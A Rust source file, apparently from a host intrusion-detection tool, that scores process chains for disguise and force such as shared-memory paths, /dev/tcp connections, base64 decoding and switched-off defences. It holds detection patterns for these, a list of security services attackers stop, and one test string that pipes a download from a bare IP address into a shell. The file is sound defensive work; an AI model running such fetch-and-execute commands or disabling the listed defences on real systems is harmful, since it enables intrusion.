@@ -1,0 +1,358 @@
+//! Signs that something is wrong with a chain of steps: disguise, force, and where it came from.
+//!
+//! Honest installers and updaters fetch, run and register programs too. What they lack is disguise: they come from a
+//! named host, lie in an ordinary place, keep their files, and do not enter through a service.
+
+use serde::{Deserialize, Serialize};
+
+use crate::{
+    detect::{PathKind, WrittenFile},
+    model::ProcessView,
+    process::{Process, ProcessTable, Role, base_name},
+};
+
+/// Something that is wrong with a chain.
+#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize)]
+#[serde(rename_all = "kebab-case")]
+pub(super) enum Sign {
+    /// A network service started it.
+    EnteredThroughService,
+    /// The program lies in shared memory.
+    SharedMemory,
+    /// The program lies in a hidden place.
+    HiddenPlace,
+    /// The program has the name of a kernel thread or of a system program.
+    BorrowedName,
+    /// The program has no file.
+    NoFile,
+    /// The program was deleted while it ran.
+    DeletesItself,
+    /// Its code was decoded from base64.
+    Decoded,
+    /// A shell opened the connection itself.
+    FetchedByShell,
+    /// A defence of the host was switched off.
+    SilencedDefence,
+    /// A file was made immutable.
+    Immutable,
+    /// It was fetched from an address without a name.
+    BareAddress,
+    /// The program lies in a temporary directory.
+    TemporaryPlace,
+    /// A scheduler started it.
+    Scheduled,
+}
+
+impl Sign {
+    /// The sign in words, as part of a sentence.
+    pub(super) fn words(self) -> &'static str {
+        match self {
+            Self::EnteredThroughService => "came through a network service",
+            Self::SharedMemory => "lies in shared memory",
+            Self::HiddenPlace => "lies in a hidden place",
+            Self::BorrowedName => "has the name of another program",
+            Self::NoFile => "has no file",
+            Self::DeletesItself => "was deleted while it ran",
+            Self::Decoded => "was decoded from base64",
+            Self::FetchedByShell => "was fetched by a shell itself",
+            Self::SilencedDefence => "comes with a defence switched off",
+            Self::Immutable => "comes with a file made immutable",
+            Self::BareAddress => "was fetched from a bare address",
+            Self::TemporaryPlace => "lies in a temporary directory",
+            Self::Scheduled => "was started by a scheduler",
+        }
+    }
+
+    /// Points of a sign: 2 for disguise and force, 1 for what honest work shows too.
+    fn points(self) -> u8 {
+        match self {
+            Self::EnteredThroughService
+            | Self::SharedMemory
+            | Self::HiddenPlace
+            | Self::BorrowedName
+            | Self::NoFile
+            | Self::DeletesItself
+            | Self::Decoded
+            | Self::FetchedByShell
+            | Self::SilencedDefence
+            | Self::Immutable => 2,
+            Self::BareAddress | Self::TemporaryPlace | Self::Scheduled => 1,
+        }
+    }
+}
+
+/// Points of signs from which on a chain is suspicious.
+const SUSPICIOUS: u8 = 2;
+
+/// The signs of a suspect.
+#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
+pub(super) struct Signs {
+    found: Vec<Sign>,
+    /// Whether a person started it from a login shell.
+    interactive: bool,
+}
+
+impl Signs {
+    /// Adds a sign. Returns whether it is new.
+    pub(super) fn add(&mut self, sign: Sign) -> bool {
+        let is_new = !self.found.contains(&sign);
+        if is_new {
+            self.found.push(sign);
+        }
+        is_new
+    }
+
+    /// Whether the signs make a chain suspicious. A person at a terminal excuses one point, and weak signs count only
+    /// for a program that lies in a temporary place. In a whole chain, a dropped file that was run and persistence, a
+    /// bare address counts twice.
+    pub(super) fn are_suspicious(&self, whole: bool) -> bool {
+        let strong: u8 = self.found.iter().map(|sign| sign.points()).filter(|points| *points > 1).sum();
+        let weak = self.found.iter().filter(|sign| sign.points() == 1).count();
+        let twice = u8::from(whole && self.found.contains(&Sign::BareAddress));
+        let weak = u8::try_from(weak).unwrap_or(u8::MAX).saturating_add(twice);
+        let counted = if strong > 0 || self.found.contains(&Sign::TemporaryPlace) { weak } else { 0 };
+        strong.saturating_add(counted).saturating_sub(u8::from(self.interactive)) >= SUSPICIOUS
+    }
+
+    /// Whether a person started it.
+    pub(super) fn is_interactive(&self) -> bool {
+        self.interactive
+    }
+
+    /// The signs, in the order in which they were found.
+    pub(super) fn iter(&self) -> impl Iterator<Item = Sign> {
+        self.found.iter().copied()
+    }
+
+    /// Adds the signs of another suspect.
+    pub(super) fn absorb(&mut self, other: &Self) {
+        for sign in &other.found {
+            self.add(*sign);
+        }
+        self.interactive |= other.interactive;
+    }
+
+    /// Adds what a process, its program and its ancestors show.
+    pub(super) fn observe(&mut self, table: &ProcessTable, process: &Process) {
+        let view = &process.view;
+        self.observe_program(view, process.script.as_deref());
+        let mut below_service = false;
+        for ancestor in table.ancestry(process.key()) {
+            match ancestor.role {
+                Role::Service if ancestor.key() != process.key() => below_service = true,
+                Role::Scheduler => drop(self.add(Sign::Scheduled)),
+                Role::LoginShell | Role::LoginService => self.interactive = true,
+                Role::Shell | Role::Interpreter => self.observe_code(&ancestor.view),
+                Role::Downloader => self.observe_download(&ancestor.view),
+                _ => {}
+            }
+            if ancestor.role.bounds_tree() {
+                break;
+            }
+        }
+        if below_service {
+            self.add(Sign::EnteredThroughService);
+        }
+    }
+
+    /// Adds what the writer of a program shows.
+    pub(super) fn observe_writer(&mut self, table: &ProcessTable, written: &WrittenFile) {
+        for writer in table.tree_path(written.writer, |_| false).take(3) {
+            match writer.role {
+                Role::Downloader => self.observe_download(&writer.view),
+                Role::Shell | Role::Interpreter => self.observe_code(&writer.view),
+                _ => {}
+            }
+        }
+    }
+
+    fn observe_program(&mut self, view: &ProcessView, script: Option<&str>) {
+        let executable = &view.executable;
+        if executable.flags.memfd || executable.flags.deleted {
+            self.add(Sign::NoFile);
+        }
+        let path = script.unwrap_or(&executable.path);
+        match PathKind::of(path) {
+            _ if is_shared_memory(path) => drop(self.add(Sign::SharedMemory)),
+            PathKind::Hidden => drop(self.add(Sign::HiddenPlace)),
+            PathKind::Temporary if path.contains("/.") => drop(self.add(Sign::HiddenPlace)),
+            PathKind::Temporary => drop(self.add(Sign::TemporaryPlace)),
+            PathKind::Ordinary => {}
+        }
+        if PathKind::of(&executable.path).is_odd() && is_name_of_system(base_name(&executable.path)) {
+            self.add(Sign::BorrowedName);
+        }
+    }
+
+    /// Looks for decoding and for connections in the code on a command line.
+    fn observe_code(&mut self, view: &ProcessView) {
+        for argument in view.arguments.iter() {
+            if argument.contains("base64") && (argument.contains("-d") || argument.contains("decode")) {
+                self.add(Sign::Decoded);
+            }
+            if argument.contains("/dev/tcp/") || argument.contains("/dev/udp/") {
+                self.add(Sign::FetchedByShell);
+            }
+            if names_bare_address(argument) {
+                self.add(Sign::BareAddress);
+            }
+        }
+    }
+
+    fn observe_download(&mut self, view: &ProcessView) {
+        if view.arguments.iter().any(|argument| names_bare_address(argument)) {
+            self.add(Sign::BareAddress);
+        }
+    }
+}
+
+/// Returns the sign that starting this program with these arguments is, if it is one.
+pub(super) fn deed(process: &Process) -> Option<Sign> {
+    let view = &process.view;
+    let has = |word: &str| view.arguments.iter().skip(1).any(|argument| &**argument == word);
+    let names_defence = || view.arguments.iter().skip(1).any(|argument| is_defence(argument));
+    match base_name(&view.executable.path) {
+        "base64" if has("-d") || has("--decode") || has("-D") => Some(Sign::Decoded),
+        "chattr"
+            if view.arguments.iter().skip(1).any(|flags| flags.starts_with('+') && flags.contains('i')) =>
+        {
+            Some(Sign::Immutable)
+        }
+        "setenforce" if has("0") || has("Permissive") => Some(Sign::SilencedDefence),
+        "ufw" if has("disable") => Some(Sign::SilencedDefence),
+        "auditctl" if has("-e0") || (has("-e") && has("0")) || has("-D") => Some(Sign::SilencedDefence),
+        "systemctl" | "service" | "rc-service"
+            if (has("stop") || has("disable") || has("mask") || has("kill")) && names_defence() =>
+        {
+            Some(Sign::SilencedDefence)
+        }
+        "pkill" | "killall" if names_defence() => Some(Sign::SilencedDefence),
+        _ => None,
+    }
+}
+
+/// Whether a word names a program or unit that defends the host.
+fn is_defence(word: &str) -> bool {
+    const DEFENCES: [&str; 18] = [
+        "auditd",
+        "apparmor",
+        "ufw",
+        "firewalld",
+        "iptables",
+        "nftables",
+        "falco",
+        "aegis",
+        "aliyun",
+        "AliYunDun",
+        "qcloud",
+        "YDService",
+        "bcm-agent",
+        "clamav-daemon",
+        "wazuh-agent",
+        "ossec",
+        "crowdsec",
+        "minerwatch",
+    ];
+    let word = word.strip_suffix(".service").unwrap_or(word);
+    DEFENCES.contains(&word) || word.starts_with("falcon-sensor") || word.starts_with("cloudmonitor")
+}
+
+fn is_shared_memory(path: &str) -> bool {
+    ["/dev/shm/", "/run/shm/", "/dev/mqueue/"].iter().any(|directory| path.starts_with(directory))
+}
+
+/// Whether a name is that of a program which the system starts. Runtimes such as Java are left out: people unpack them
+/// anywhere.
+fn is_name_of_system(name: &str) -> bool {
+    if name.starts_with("systemd-") || name.starts_with("dbus-") || name.starts_with("kworker") {
+        return true;
+    }
+    match Role::of_name(name) {
+        Role::Init | Role::LoginService | Role::Scheduler | Role::ContainerRuntime => true,
+        Role::Service => !matches!(name, "java" | "node" | "nodejs" | "dotnet" | "caddy" | "redis"),
+        _ => false,
+    }
+}
+
+/// Whether a word contains a web address or a remote path whose host is a bare address: `http://192.0.2.1/x`. The
+/// host's own addresses (`127.0.0.1`, `localhost`) do not count.
+fn names_bare_address(word: &str) -> bool {
+    let mut rest = word;
+    while let Some((_, after)) = rest.split_once("://") {
+        let host = after.split(['/', ' ', '"', '\'', ')', ';', '|', '?']).next().unwrap_or(after);
+        let host = host.rsplit_once('@').map_or(host, |(_, host)| host);
+        if is_bare_address(host) {
+            return true;
+        }
+        rest = after;
+    }
+    // curl and wget take addresses without a scheme.
+    let host = word.split('/').next().unwrap_or(word);
+    word.contains('/') && is_bare_address(host)
+}
+
+fn is_bare_address(host: &str) -> bool {
+    let address = host
+        .parse::<std::net::SocketAddr>()
+        .map(|address| address.ip())
+        .or_else(|_| host.trim_matches(['[', ']']).parse::<std::net::IpAddr>());
+    address.is_ok_and(|address| !address.is_loopback() && !address.is_unspecified())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn bare_addresses_are_told_from_names() {
+        for word in [
+            "http://192.0.2.1/x",
+            "http://10.0.0.1:8000/x",
+            "curl -s http://10.0.0.1/x | sh",
+            "http://[2001:db8::1]/x",
+            "10.0.0.1/x",
+            "http://me@10.0.0.1/",
+        ] {
+            assert!(names_bare_address(word), "{word}");
+        }
+        for word in [
+            "http://example.com/x",
+            "http://127.0.0.1:80/health",
+            "http://localhost/",
+            "10.0.0.1",
+            "1.2.3",
+            "",
+            "/10.0.0.1/x",
+        ] {
+            assert!(!names_bare_address(word), "{word}");
+        }
+    }
+
+    #[test]
+    fn signs_add_up() {
+        let with = |signs: &[Sign], interactive| {
+            let mut all = Signs { interactive, ..Signs::default() };
+            signs.iter().for_each(|sign| drop(all.add(*sign)));
+            all.are_suspicious(false)
+        };
+        assert!(!with(&[], false));
+        assert!(!with(&[Sign::BareAddress, Sign::Scheduled], false), "a program in an ordinary place");
+        assert!(!with(&[Sign::TemporaryPlace], false));
+        assert!(with(&[Sign::TemporaryPlace, Sign::BareAddress], false));
+        assert!(!with(&[Sign::TemporaryPlace, Sign::BareAddress], true), "a person did it");
+        assert!(with(&[Sign::SharedMemory], false));
+        assert!(!with(&[Sign::HiddenPlace], true));
+        assert!(with(&[Sign::HiddenPlace, Sign::BareAddress], true));
+        assert!(with(&[Sign::EnteredThroughService], false));
+    }
+
+    #[test]
+    fn only_programs_that_the_system_starts_have_names_to_borrow() {
+        for name in ["sshd", "systemd-logind", "cron", "dbus-daemon", "nginx", "mysqld"] {
+            assert!(is_name_of_system(name), "{name}");
+        }
+        for name in ["java", "node", "x", "bash", "curl", "python3.11", ""] {
+            assert!(!is_name_of_system(name), "{name}");
+        }
+    }
+}
